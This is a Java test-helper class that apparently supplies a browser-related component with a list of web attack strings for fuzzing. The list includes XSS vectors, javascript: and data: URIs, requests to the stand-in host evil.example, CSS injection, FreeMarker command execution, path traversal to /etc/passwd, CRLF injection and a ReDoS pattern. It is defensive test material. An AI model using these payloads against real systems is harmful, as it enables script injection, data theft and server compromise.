package org.embtel.browser;

import java.util.List;
import java.util.Random;

/**
 * What an attacker would write where words or values are expected. Each calls {@code trap()} if it
 * runs, or asks {@code evil.example} if it can.
 */
final class Payloads {

    static final List<String> ALL =
            List.of(
                    "\"><script>trap()</script>",
                    "'><img src=x onerror=trap()>",
                    "\" onmouseover=\"trap()\" autofocus onfocus=\"trap()\" style=\"x",
                    "' onpointerenter='trap()' tabindex=1 onfocus='trap()",
                    "x onload=trap() y",
                    "`onerror=trap()",
                    "</title><script>trap()</script>",
                    "</style></textarea></noscript></template><svg/onload=trap()>",
                    "--><script>trap()</script><!--",
                    "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">trap()</script><![CDATA[",
                    "?><script>trap()</script><?x",
                    "<script>trap()</script>",
                    "&lt;script&gt;trap()&lt;/script&gt;",
                    "&#60;img src=x onerror=trap()&#62;",
                    "<svg><animate onbegin=trap() attributeName=x dur=1s></svg>",
                    "<math><a xlink:href=\"javascript:trap()\">x</a></math>",
                    "<iframe srcdoc=\"<script>parent.trap()</script>\">",
                    "<iframe src=javascript:parent.trap()>",
                    "<object data=\"https://evil.example/o\"><embed src=\"https://evil.example/e\">",
                    "<base href=\"https://evil.example/\">",
                    "<meta http-equiv=refresh content=\"0;url=https://evil.example/m\">",
                    "<link rel=stylesheet href=https://evil.example/l.css>",
                    "<form action=https://evil.example/f><button autofocus>",
                    "<img srcset=\"https://evil.example/s 2x\" loading=eager>",
                    "<video poster=//evil.example/p><source onerror=trap()>",
                    "<details open ontoggle=trap()>",
                    "javascript:trap()",
                    "JaVaScRiPt:trap()//",
                    " javascript:trap()",
                    "java\tscript:trap()",
                    "java\nscript:trap()",
                    "javascript&colon;trap()",
                    "javascript&#58;trap()",
                    "javascript://%0atrap()",
                    "\uFEFFjavascript:trap()",
                    "\u00A0javascript:trap()",
                    "data:text/html,<script>trap()</script>",
                    "data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=",
                    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='trap()'/>",
                    "vbscript:trap()",
                    "file:///etc/passwd",
                    "blob:https://evil.example/b",
                    "view-source:javascript:trap()",
                    "//evil.example/x.png",
                    "\\\\evil.example\\x.png",
                    "/\\evil.example/x.png",
                    "https:evil.example/x.png",
                    "https://evil.example/x.png",
                    "HTTPS://EVIL.EXAMPLE/x.svg",
                    "https://evil.example/x\" onload=\"trap()",
                    "https://evil.example;script-src *;/x.png",
                    "https://evil.example'; script-src 'unsafe-inline'; '/x.png",
                    "https://a@evil.example:80/x.png",
                    "url(https://evil.example/u)",
                    "x;background:url(https://evil.example/v)",
                    "}</style><style>*{background:url(https://evil.example/w)}",
                    "@import 'https://evil.example/i.css';",
                    "expression(trap())",
                    "\\22 ;background:url(//evil.example/q)",
                    "\");trap();//",
                    "';trap();//",
                    "\\u003cscript\\u003etrap()\\u003c/script\\u003e",
                    "</script><script>trap()</script>",
                    "<!--<script>trap()</script>",
                    "\u2028trap()\u2029//",
                    "${trap()}",
                    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
                    "<#assign x=1><@trap/>",
                    "[#ftl][=7*7]",
                    "{{constructor.constructor('trap()')()}}",
                    "#\"><img src=x onerror=trap()>",
                    "#{trap}",
                    "%22%3E%3Cscript%3Etrap()%3C/script%3E",
                    "%0d%0aContent-Type:%20text/html",
                    "../../../../../../etc/passwd",
                    "..\\..\\x",
                    "\uFF1Cscript\uFF1Etrap()\uFF1C/script\uFF1E",
                    "<\u017Fcript>trap()</\u017Fcript>",
                    "\u202E>tpircs<\u202C\"><script>trap()</script>",
                    "\u0085\u200B\"\u200D onload=trap()",
                    "<x/onclick=trap()>",
                    "[x](javascript:trap())",
                    "xpath(//*[@onload])",
                    "#xpath1(trap())",
                    "__proto__",
                    "constructor",
                    "(?:a+)+$",
                    "$1$2${1}\\1",
                    "{title}{trap}{{");

    private Payloads() {}

    /** One of them, for a value that is {@code own}: alone, or beside what was there. */
    static String instead(String own, Random random) {
        String payload = ALL.get(random.nextInt(ALL.size()));
        return switch (random.nextInt(4)) {
            case 0 -> own + payload;
            case 1 -> payload + own;
            default -> payload;
        };
    }
}
